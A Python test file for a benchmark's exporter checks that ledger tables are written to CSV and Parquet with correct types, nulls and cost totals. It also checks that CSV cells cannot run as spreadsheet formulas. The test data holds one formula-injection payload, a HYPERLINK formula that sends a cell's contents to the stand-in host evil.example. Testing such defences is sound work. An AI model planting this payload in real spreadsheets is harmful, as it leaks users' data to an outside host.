"""The exported tables: the ledger's values, typed, in a fixed order, and harmless in a spreadsheet."""

import csv
import json
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest

from local_bench.analysis.loading import load_run
from local_bench.analysis.settlement import accounting
from local_bench.report.exports import write_exports
from local_bench.runs.rundir import RunDir

from .conftest import write_run

MakeRun = Callable[..., Path]
NAMES = (
    "candidates",
    "verdicts",
    "scores",
    "settlement",
    "costs",
    "making",
    "judges",
    "cuts",
    "competition",
    "cost_reduction",
    "break_even",
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def export(path: Path) -> list[Path]:
    with RunDir.open(path) as run:
        return write_exports(run)


def parquet(path: Path, name: str) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = pq.read_table(path / "exports" / f"{name}.parquet").to_pylist()
    return rows


def csv_rows(path: Path, name: str) -> list[dict[str, str]]:
    with (path / "exports" / f"{name}.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An exported run that no test changes."""
    path = write_run(tmp_path_factory.mktemp("plain") / "run")
    export(path)
    return path


def test_every_table_is_written_in_two_formats_and_always_the_same(plain: Path) -> None:
    written = [plain / "exports" / f"{name}.{ending}" for name in NAMES for ending in ("csv", "parquet")]
    first = {path: path.read_bytes() for path in written}
    assert sorted((plain / "exports").iterdir()) == sorted(written)
    assert {path: path.read_bytes() for path in export(plain)} == first


def test_exported_rows_equal_the_ledger(make_run: MakeRun) -> None:
    path = make_run(no_source=True, panel=True)
    export(path)
    keys = {"candidates": "work_id", "verdicts": "work_id, judge, rubric, point, repeat", "scores": "work_id, name"}
    with RunDir.open(path) as run:
        for name, key in keys.items():
            stored = [dict(row) for row in run.store.rows(f"SELECT * FROM {name} ORDER BY {key}")]
            read = [row | {"judge": row["judge_id"]} if "judge_id" in row else row for row in parquet(path, name)]
            assert [{k: row[k] for k in stored[0] if k != "position"} for row in read] == [
                {k: v for k, v in row.items() if k != "position"} for row in stored
            ]


def test_unscored_is_null_with_a_reason(plain: Path) -> None:
    [row] = [r for r in parquet(plain, "scores") if r["unscored"]]
    assert row["value"] is None
    assert row["applies"]
    assert row["unscored"].startswith("the answer was cut off")
    assert all(r["value"] is None and not r["applies"] for r in parquet(plain, "scores") if r["name"] == "veq_text")
    [row] = [r for r in parquet(plain, "candidates") if r["decision_unscored"]]
    assert row["accepted"] is None
    [cell] = [r for r in csv_rows(plain, "scores") if r["unscored"]]
    assert cell["value"] == ""


def test_settlement_and_costs_equal_the_accounting(plain: Path) -> None:
    with RunDir.open(plain) as run:
        money = accounting(run.store, run.config.settlement)
    rows = {(r["model"], r["scope"], r["category"]): r for r in parquet(plain, "settlement")}
    assert len(rows) == 2 * 3
    for s in money.settlements:
        row = rows[s.model, "run", "all"]
        assert row["revenue_micro_usd"] == s.total.revenue_micro_usd
        assert row["revenue_usd"] == Decimal(s.total.revenue_micro_usd) / 1_000_000
        assert row["cost_micro_usd"] == s.cost_micro_usd
        assert row["profit_micro_usd"] == s.profit_micro_usd
        assert row["coverage"] == s.total.coverage
        parts = [r for r in rows.values() if r["model"] == s.model and r["scope"] == "category"]
        assert sum(r["revenue_micro_usd"] for r in parts) == s.total.revenue_micro_usd
        assert all(r["cost_usd"] is None and r["cost_unscored"] for r in parts)
    costs = parquet(plain, "costs")
    assert sum(r["cost_micro_usd"] for r in costs) == money.cost_micro_usd
    assert [r["model"] for r in costs] == ["alpha", "alpha", "beta", None, None]
    assert next(r["cost_usd"] for r in csv_rows(plain, "costs")) == "0.001000"


def test_without_a_price_costs_are_null_with_the_reason(make_run: MakeRun) -> None:
    path = make_run(price=None)
    with RunDir.open(path) as run:
        run.store.write("UPDATE sessions SET device = 'an unheard-of device'")
    export(path)
    for row in [*parquet(path, "costs"), *parquet(path, "settlement")]:
        assert row["cost_micro_usd"] is None
        assert row["cost_usd"] is None
        assert row["cost_unscored"]


def test_no_cell_of_a_csv_is_a_formula(plain: Path) -> None:
    cells = [(name, k, cell) for name in NAMES for row in csv_rows(plain, name) for k, cell in row.items()]
    numbers = {"profit_micro_usd", "profit_usd", "cost_savings", "cost_savings_high"}
    assert [c for c in cells if c[2].startswith(("=", "+", "-", "@", "\t", "\r")) and c[1] not in numbers] == []
    assert any(c == ("candidates", "title", "'" + FORMULA) for c in cells)
    assert any(c == ("verdicts", "raw", "'-1+" + FORMULA) for c in cells)
    assert any(c[:2] == ("settlement", "profit_micro_usd") and c[2] == "-3500" for c in cells)  # a number stays one
    assert {r["title"] for r in parquet(plain, "candidates")} >= {FORMULA}  # and Parquet has the text unchanged


def test_candidates_have_their_generation_and_api_cost(make_run: MakeRun) -> None:
    path = make_run(on_gpus=True)
    export(path)
    rows = {(r["model"], r["task_id"], r["deliverable"]): r for r in parquet(path, "candidates")}
    assert rows["alpha", "t2", 2]["batch_size"] == 4
    assert rows["alpha", "t2", 2]["truncated"] == '{"clip": 6, "t5": 0}'
    assert rows["alpha", "t2", 2]["cost_micro_usd"] is None
    elsewhere = rows["some-api", "t1", 1]
    assert elsewhere["cost_usd"] == Decimal("0.137406")
    assert [elsewhere[name] for name in ("batch_size", "truncated", "height", "width")] == [None] * 4


@pytest.mark.parametrize("on_gpus", [False, True])
def test_the_candidates_are_those_of_load_run(make_run: MakeRun, on_gpus: bool) -> None:
    path = make_run(on_gpus=on_gpus, planned=not on_gpus, gap=on_gpus)
    export(path)
    read = pd.read_csv(path / "exports" / "candidates.csv", keep_default_na=False, na_values=[""])
    with load_run(path) as run:
        loaded = run.candidates()
    read = read.set_index("work_id").loc[loaded["work_id"]].reset_index()
    files = [None if pd.isna(image) else str(path / image) for image in read["image"]]
    assert all(Path(file).is_file() for file in files if file)
    for name in loaded:
        written = files if name == "image" else [None if pd.isna(cell) else cell for cell in read[name]]
        if name in ("category", "prompt"):
            written = [cell.removeprefix("'") for cell in written]  # which keeps a spreadsheet from running it
        expected = [None if pd.isna(cell) else cell for cell in loaded[name]]
        assert written == (pytest.approx(expected, rel=1e-12) if name.endswith("_usd") else expected), name
    assert loaded.groupby(["model", "task_id"])["price_usd"].sum().unstack().to_dict("index")["alpha"] == {
        "t1": 35,
        "t2": 100,
    }
    assert set(loaded["task_price_usd"]) == {35, 100}
    assert loaded["cost_usd"].notna().equals(loaded["image"].notna())


def test_generation_statistics_are_those_of_the_meter(make_run: MakeRun) -> None:
    path = make_run(on_gpus=True)
    export(path)
    alpha, beta, elsewhere = parquet(path, "making")
    assert (alpha["n_images"], alpha["n_made"], alpha["batch_sizes"], alpha["sizes"]) == (
        3,
        3,
        '{"4": 3}',
        '{"320x240": 3}',
    )
    assert alpha["s_per_image"] == pytest.approx(13.2 / 3)
    assert alpha["images_per_gpu_hour"] == pytest.approx(3 * 3600 / 64.2)
    assert alpha["image_micro_usd"] == round(64.2 * 500 / 3)  # 1.80 an hour is 500 micro-dollars a second
    assert alpha["marginal_image_usd"] == Decimal("0.0022")
    assert alpha["wh_per_image"] == pytest.approx(64.2 * 500 / 3600 / 3)
    assert alpha["floor_s_per_image"] == pytest.approx(2100 / 790)
    assert alpha["mfu"] == pytest.approx(2100 / 790 / 4.4)
    assert beta["s_per_image"] == pytest.approx(2)
    assert beta["no_floor"] == "no floor: its cache skips work"
    assert [beta[name] for name in ("mfu", "floor_s_per_image", "flop_per_image")] == [None] * 3
    assert elsewhere["image_micro_usd"] == 137_406
    assert [elsewhere[name] for name in ("s_per_image", "wh_per_image", "mfu", "images_per_gpu_hour")] == [None] * 4
    cut = {(r["model"], r["encoder"]): (r["n_prompts"], r["n_cut"], r["most_tokens"]) for r in parquet(path, "cuts")}
    assert cut == {(model, e): (2, n, 3 * n) for model in ("alpha", "beta") for e, n in (("clip", 2), ("t5", 0))}


def test_absent_counters_and_prices_are_null_and_not_zero(make_run: MakeRun) -> None:
    path = make_run(on_gpus=True, price=None)
    with RunDir.open(path) as run:
        run.store.write("UPDATE meter SET energy_mj = NULL WHERE phase = 'encode'")
        run.store.write("UPDATE sessions SET device = 'an unheard-of device'")
        run.store.write("UPDATE candidates SET cost_micro_usd = NULL")
    export(path)
    alpha, beta, elsewhere = parquet(path, "making")
    assert alpha["wh_per_image"] is None  # a part of its time has no counter
    assert alpha["marginal_wh_per_image"] is not None
    assert beta["wh_per_image"] is not None
    assert {row["image_micro_usd"] for row in (alpha, beta, elsewhere)} == {None}
    assert alpha["no_floor"] == "no floor for this device"
    rows = {r["model"]: r for r in parquet(path, "settlement") if r["scope"] == "run"}
    assert rows["some-api"]["cost_unscored"] == "the cost of its images is not stated"
    assert rows["alpha"]["cost_unscored"] == "the price table has no row for the device"


def test_judges_have_their_checks_and_null_for_checks_that_were_not_run(make_run: MakeRun) -> None:
    path = make_run(panel=True)
    export(path)
    gamma, delta = parquet(path, "judges")
    assert (gamma["name"], gamma["card"], gamma["protocol"]) == ("gamma", "gamma", "json-2")
    tried = ("reproducible", "n_attacks", "n_fooled", "n_attacks_unscored", "fooled_by")
    assert [gamma[name] for name in tried] == [None] * 5
    assert [delta[name] for name in tried[:4]] == [False, 15, 2, 1]
    assert json.loads(delta["fooled_by"])[0] == "painted-json"
    verdicts = {(r["judge"], r["judge_id"]) for r in parquet(path, "verdicts")}
    assert verdicts == {(one["name"], one["judge_id"]) for one in (gamma, delta)}
